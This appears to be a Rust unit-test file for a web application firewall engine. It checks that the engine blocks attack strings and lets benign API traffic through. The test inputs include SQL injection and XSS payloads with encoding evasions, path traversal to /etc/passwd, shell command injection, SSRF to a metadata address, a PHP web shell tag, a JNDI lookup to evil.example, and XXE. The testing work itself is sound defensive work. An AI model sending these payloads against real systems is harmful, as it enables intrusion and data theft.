//! Unit tests of the engine through its public API: one group per class with
//! evasions, body parsing and the body cap, options, operator rules and rule
//! validation, and benign API-like inputs that must pass.

use crate::{Class, Engine, EngineOptions, Request, Scratch, SignatureError, Verdict};

pub(crate) fn engine() -> Engine {
    Engine::bundled(EngineOptions::default()).unwrap()
}

pub(crate) fn query(e: &Engine, q: &str) -> Verdict {
    e.inspect(
        &Request::new("GET", b"/api/items").query(q.as_bytes()),
        &mut Scratch::default(),
    )
}

fn path(e: &Engine, p: &str) -> Verdict {
    e.inspect(&Request::new("GET", p.as_bytes()), &mut Scratch::default())
}

fn header(e: &Engine, name: &str, value: &str) -> Verdict {
    let headers = [(name, value.as_bytes())];
    e.inspect(
        &Request::new("GET", b"/").headers(&headers),
        &mut Scratch::default(),
    )
}

fn body(e: &Engine, content_type: &str, b: &str) -> Verdict {
    e.inspect(
        &Request::new("POST", b"/api/items").body(content_type, b.as_bytes()),
        &mut Scratch::default(),
    )
}

#[track_caller]
fn assert_class(v: &Verdict, class: Class, input: &str) {
    assert!(v.blocked, "not blocked: {input} -> {v:?}");
    assert!(
        v.hits.iter().any(|h| h.class == class),
        "no {class} hit: {input} -> {v:?}"
    );
}

#[test]
fn sqli_and_its_evasions() {
    let e = engine();
    for q in [
        "id=1'+or+'1'%3D'1",
        "id=1+UNION+ALL+SELECT+username,password+FROM+users--",
        "id=1%2527%2520or%25201%253D1--",        // double encoded
        "id=1+UnIoN/**/SeLeCt+1,2,3",            // comment as space, mixed case
        "id=1/*!50000UNION*//*!50000SELECT*/+1", // MySQL versioned comments
        "id=1'%09and%09sleep(5)--",              // tabs
        "id=1;+DROP+TABLE+users--",
        "id=admin'--",
        "id=1'+and+extractvalue(1,concat(0x7e,version()))--",
        "q=%u0027+or+1%3D1--", // %u encoding
    ] {
        assert_class(&query(&e, q), Class::Sqli, q);
    }
}

#[test]
fn xss_and_its_evasions() {
    let e = engine();
    for q in [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=%3CScRiPt%3Ealert(1)",
        "q=%22%3E%3Csvg/onload=alert(1)%3E",
        "q=%3Cimg+src=x+onerror=alert(1)%3E",
        "q=java%26%23x09;script:alert(1)", // entity-split scheme
        "q=%26lt;script%26gt;alert(1)",    // HTML entities
        "q=%253Cscript%253E",              // double encoded
    ] {
        assert_class(&query(&e, q), Class::Xss, q);
    }
}

#[test]
fn lfi_traversal_with_overlong_utf8_and_null_bytes() {
    let e = engine();
    for q in [
        "file=../../../../etc/passwd",
        "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "file=..%252f..%252fetc%252fpasswd",
        "file=..\\..\\windows\\win.ini",
        "file=../../etc/passwd%00.png",
    ] {
        assert_class(&query(&e, q), Class::Lfi, q);
    }
    assert_class(
        &path(&e, "/static/..%2f..%2f..%2fetc/shadow"),
        Class::Lfi,
        "path",
    );
    assert_class(&path(&e, "/.git/config"), Class::Lfi, "/.git/config");
    assert!(!path(&e, "/.well-known/openid-configuration").blocked);
}

#[test]
fn rce_and_shell_evasions() {
    let e = engine();
    for q in [
        "host=127.0.0.1;cat+/etc/passwd",
        "host=x|w'h'o'am'i",
        "host=x;c\\at+/et\\c/pas\\swd",
        "host=$(whoami)",
        "host=x%0Aid",
        "host=x;/bin/ca?+/e??/p?ss??",
        "host=x;cat$IFS/etc/passwd",
        "cmd=cmd.exe+/c+dir",
        "cmd=powershell+-enc+SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ] {
        assert_class(&query(&e, q), Class::Rce, q);
    }
}

#[test]
fn rfi_ssrf_php_java_generic_and_scanners() {
    let e = engine();
    assert_class(
        &query(&e, "url=http://169.254.169.254/latest/meta-data/"),
        Class::Rfi,
        "metadata",
    );
    assert_class(
        &query(&e, "url=http://2852039166/"),
        Class::Rfi,
        "decimal ip",
    );
    assert_class(&query(&e, "url=gopher://x:25/_HELO"), Class::Rfi, "gopher");
    assert_class(
        &query(&e, "c=%3C%3Fphp+system($_GET['c']);+%3F%3E"),
        Class::Php,
        "php tag",
    );
    assert_class(
        &query(&e, "f=php://filter/convert.base64-encode/resource=index"),
        Class::Php,
        "wrapper",
    );
    assert_class(
        &header(&e, "User-Agent", "${jndi:ldap://evil.example/a}"),
        Class::Java,
        "jndi",
    );
    assert_class(
        &header(&e, "X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x/a}"),
        Class::Java,
        "nested jndi",
    );
    assert_class(
        &query(&e, "x=java.lang.Runtime.getRuntime().exec('id')"),
        Class::Java,
        "runtime",
    );
    assert_class(&query(&e, "name={{7*7}}"), Class::Generic, "ssti");
    assert_class(
        &query(&e, "__proto__[isAdmin]=true"),
        Class::Generic,
        "proto",
    );
    assert_class(
        &query(&e, "x=require('child_process').exec('id')"),
        Class::Generic,
        "node",
    );
    assert_class(
        &header(&e, "User-Agent", "sqlmap/1.7.2#stable"),
        Class::Scanner,
        "ua",
    );
}

#[test]
fn json_keys_values_and_truncation() {
    let e = engine();
    let v = body(&e, "application/json", r#"{"name":"x","q":"1' or '1'='1"}"#);
    assert_class(&v, Class::Sqli, "json value");
    let v = body(&e, "application/json", r#"{"__proto__":{"admin":true}}"#);
    assert_class(&v, Class::Generic, "json key");
    let v = body(
        &e,
        "application/json",
        r#"{"a":[{"b":"\u003cscript\u003ealert(1)"#,
    );
    assert_class(&v, Class::Xss, "truncated json with escapes");
    let v = body(
        &e,
        "application/vnd.api+json",
        r#"{"u":"http://127.0.0.1:6379/"}"#,
    );
    assert_class(&v, Class::Rfi, "+json media type");
}

#[test]
fn form_multipart_and_xml_bodies() {
    let e = engine();
    let v = body(
        &e,
        "application/x-www-form-urlencoded",
        "a=1&b=%3Cscript%3Ealert(1)",
    );
    assert_class(&v, Class::Xss, "form");
    let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n;cat /etc/passwd\r\n\
              --XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\
              Content-Type: image/png\r\n\r\nPNG\r\n--XyZ--\r\n";
    let v = body(&e, "multipart/form-data; boundary=XyZ", mp);
    assert_class(&v, Class::Rce, "multipart field");
    assert_class(&v, Class::Php, "multipart file name");
    let v = body(
        &e,
        "application/xml",
        r#"<?xml version="1.0"?><a b="1' or '1'='1">x</a>"#,
    );
    assert_class(&v, Class::Sqli, "xml attribute");
    let v = body(
        &e,
        "application/xml",
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
    );
    assert_class(&v, Class::Generic, "xxe");
}

#[test]
fn the_body_cap_hides_what_lies_beyond_it() {
    let opts = EngineOptions {
        body_bytes: 64,
        ..EngineOptions::default()
    };
    let e = Engine::bundled(opts).unwrap();
    let mut b = "a=".to_owned() + &"x".repeat(100);
    b.push_str("&q=%3Cscript%3Ealert(1)");
    assert!(!body(&e, "application/x-www-form-urlencoded", &b).blocked);
    let early = "q=%3Cscript%3Ealert(1)&a=".to_owned() + &"x".repeat(100);
    assert!(body(&e, "application/x-www-form-urlencoded", &early).blocked);
}

#[test]
fn disabled_rules_do_not_run_and_unknown_ids_are_refused() {
    let opts = EngineOptions {
        disabled: vec!["xss-script-tags".into(), "xss-libinjection".into()],
        ..EngineOptions::default()
    };
    let e = Engine::bundled(opts).unwrap();
    let v = query(&e, "q=%3Cscript%3E");
    assert!(
        v.hits.iter().all(|h| &*h.rule_id != "xss-script-tags"),
        "{v:?}"
    );
    assert!(e.rule_ids().all(|id| id != "xss-script-tags"));
    let bad = EngineOptions {
        disabled: vec!["no-such-rule".into()],
        ..EngineOptions::default()
    };
    assert!(matches!(
        Engine::bundled(bad),
        Err(SignatureError::UnknownDisabled(id)) if id == "no-such-rule"
    ));
}

const EXTRA: &str = r#"
[[rule]]
id = "acme-internal-token"
class = "generic"
severity = "critical"
description = "Our leaked internal token prefix"
targets = ["args", "headers"]
regex = '''acme_int_[0-9a-f]{8}'''
keywords = ["acme_int_"]
"#;

#[test]
fn operators_add_rules() {
    let e = Engine::with_rules(EXTRA, EngineOptions::default()).unwrap();
    let v = query(&e, "t=ACME_INT_deadbeef");
    assert_eq!(&*v.hits[0].rule_id, "acme-internal-token");
    assert!(v.blocked);
    assert!(!query(&engine(), "t=ACME_INT_deadbeef").blocked);
}

fn rule_error(toml: &str) -> String {
    match Engine::with_rules(toml, EngineOptions::default()) {
        Ok(_) => panic!("accepted: {toml}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn rule_files_are_validated_with_the_rule_named() {
    let err = rule_error(&EXTRA.replace("[0-9a-f]{8}", "[0-9a-f"));
    assert!(
        err.contains("acme-internal-token") && err.contains("bad regex"),
        "{err}"
    );
    let err = rule_error(&EXTRA.replace("\"generic\"", "\"sqlx\""));
    assert!(
        err.contains("acme-internal-token") && err.contains("unknown class"),
        "{err}"
    );
    let err = rule_error(&EXTRA.replace("\"headers\"", "\"bodyy\""));
    assert!(err.contains("unknown target \"bodyy\""), "{err}");
    let err = rule_error(&EXTRA.replace("keywords = [\"acme_int_\"]", ""));
    assert!(err.contains("needs keywords"), "{err}");
    let err = rule_error(&EXTRA.replace("acme-internal-token", "sqli-libinjection"));
    assert!(
        err.contains("sqli-libinjection") && err.contains("duplicate"),
        "{err}"
    );
    let err = rule_error(&format!("{EXTRA}{EXTRA}"));
    assert!(err.contains("duplicate"), "{err}");
    let err = rule_error("[[rule]]\nid = 1\n");
    assert!(err.contains("extra"), "{err}");
    let err = rule_error(&EXTRA.replace("acme_int_\"]", "ACME\"]"));
    assert!(err.contains("lower case"), "{err}");
}

#[test]
fn paranoia_levels_gate_rules() {
    let pl1 = engine();
    let pl2 = Engine::bundled(EngineOptions {
        paranoia: 2,
        ..EngineOptions::default()
    })
    .unwrap();
    assert!(pl2.rule_count() > pl1.rule_count());
    let q = "file=db-backup.sql.zip";
    assert!(!query(&pl1, q).blocked);
    assert!(query(&pl2, q).blocked);
    assert!(
        Engine::bundled(EngineOptions {
            paranoia: 5,
            ..EngineOptions::default()
        })
        .is_err()
    );
}

#[test]
fn the_caller_gets_the_score_and_chooses_the_threshold() {
    let strict = Engine::bundled(EngineOptions {
        threshold: 100,
        ..EngineOptions::default()
    })
    .unwrap();
    let v = query(&strict, "id=1'+or+'1'%3D'1");
    assert!(v.score >= 5, "{v:?}");
    assert!(
        !v.blocked,
        "a score under the threshold is reported, not blocked"
    );
    // A rule scores once per request, however many parts it matches.
    let v = query(&engine(), "a=%3Cscript%3E&b=%3Cscript%3E&c=%3Cscript%3E");
    let tags = v
        .hits
        .iter()
        .filter(|h| &*h.rule_id == "xss-script-tags")
        .count();
    assert_eq!(tags, 1);
}

#[test]
fn benign_api_traffic_passes() {
    let e = engine();
    let headers: [(&str, &[u8]); 5] = [
        ("Host", b"api.example.com"),
        (
            "User-Agent",
            b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
        ),
        ("Accept", b"application/json"),
        (
            "Cookie",
            b"session=3f9a1c2e-7b4d-4e8a-9c1f-0a2b3c4d5e6f; theme=dark",
        ),
        (
            "Referer",
            b"https://www.example.com/products?page=2&sort=price",
        ),
    ];
    let mut s = Scratch::default();
    let get = Request::new(
        "GET",
        b"/api/v1/orders/8f14e45f-ceea-467f-a0e6-3a1b2c3d4e5f",
    )
    .query(b"page=2&limit=50&sort=-created_at&fields=id,total,status")
    .headers(&headers);
    assert_eq!(e.inspect(&get, &mut s), Verdict::default());
    for text in [
        "Please select the best option from the menu below.",
        "O'Brien said the meeting is at 10:30 -- bring the report.",
        "In logic, 1=1 is true and 1=2 is false.",
        "Contact jane.doe+orders@example.co.uk or call +1 (555) 010-2030.",
        "Price: $19.99 (was $24.99) - 20% off; ends Friday!",
        "See https://en.wikipedia.org/wiki/Rust_(programming_language) for details.",
        "I'd like to update my address and drop the second item from my order.",
        "Where are you from? Which one do you prefer, this or that?",
        "Can you cat-sit this weekend? I'll be back by 6 & bring snacks.",
        "Use the \"Export\" button, then choose CSV or JSON.",
        "The file is named report_2024-05.pdf and is 2.4 MB.",
        "SELECT your seat: A1, A2 or B3 (window seats are limited).",
    ] {
        let b =
            serde_json::json!({ "comment": text, "id": "c0a8012e-1f2b-4c3d-9e8f-7a6b5c4d3e2f" })
                .to_string();
        let v = e.inspect(
            &Request::new("POST", b"/api/v1/comments")
                .headers(&headers)
                .body("application/json", b.as_bytes()),
            &mut s,
        );
        assert!(!v.blocked, "blocked benign text {text:?}: {v:?}");
    }
}

#[test]
fn the_engine_is_shareable_across_threads() {
    fn shareable<T: Send + Sync>() {}
    shareable::<Engine>();
}

#[test]
fn a_part_remembered_clean_is_only_skipped_when_read_the_same_way() {
    let e = engine();
    let mut s = Scratch::default();
    // The JSON key keeps its plus signs and is clean; the same bytes as a
    // query name read as spaces and are an injection.
    let json = Request::new("POST", b"/api/items").body(
        "application/json",
        br#"{"1+union+select+password+from+users":1}"#,
    );
    assert!(!e.inspect(&json, &mut s).blocked);
    let q = Request::new("GET", b"/api/items").query(b"1+union+select+password+from+users=1");
    assert_class(
        &e.inspect(&q, &mut s),
        Class::Sqli,
        "query name after a clean JSON key",
    );
    // And a header value found clean stays clean, remembered or not.
    let headers: [(&str, &[u8]); 1] = [("x-trace", b"abc-123")];
    for _ in 0..2 {
        assert!(
            !e.inspect(&Request::new("GET", b"/").headers(&headers), &mut s)
                .blocked
        );
    }
}

/// A rule runs on every spelling its regex accepts, not only the one its
/// keywords were written for: a line break where a keyword has a space
/// (normalising leaves every whitespace run as one space or one line break),
/// no space after `cmd`, a line break after `class.`, a space after `{`, a
/// name that only begins with a listed prefix and stands apart from its
/// parenthesis (`json_extract (`). Each was skipped before.
#[test]
fn a_rule_runs_on_every_spelling_its_regex_accepts() {
    let e = engine();
    let mut missed = Vec::new();
    for (q, rule) in [
        ("q=1%27%20order%0Aby%201--", "sqli-order-having"),
        ("q=1%27%20order%0D%0A%09by%201--", "sqli-order-having"),
        ("q=x%22%0Aonmouseover%3Dalert(1)", "xss-event-handler"),
        ("q=cmd/k%20dir", "rce-windows-command"),
        ("q=x.class.%0Aclassloader.urls", "java-expression-language"),
        ("q=%7B%20escape%20%27x%27%7D", "sqli-comment-obfuscation"),
        (
            "q=1%20and%20json_extract%20(version()%2C1)",
            "sqli-function-context",
        ),
        // A WHATWG URL parser drops the line break and adds the slashes.
        ("url=http:%0A//localhost/admin", "rfi-internal-address"),
        ("url=http:localhost:8080/admin", "rfi-internal-address"),
        ("url=ip6-loopback/", "generic-ssrf-local-hostname"),
        ("n=1e0400", "generic-numeric-overflow"),
        ("q=x'%0A%60y", "sqli-adjacent-literals"),
        ("q=x%26%20attrib%20%22c:", "rce-windows-command"),
        ("q=f%5D%20)%5B%2B1", "xss-jsfuck"),
    ] {
        let v = query(&e, q);
        if !v.hits.iter().any(|h| &*h.rule_id == rule) {
            missed.push(format!("{rule} did not hit {q}: {v:?}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}
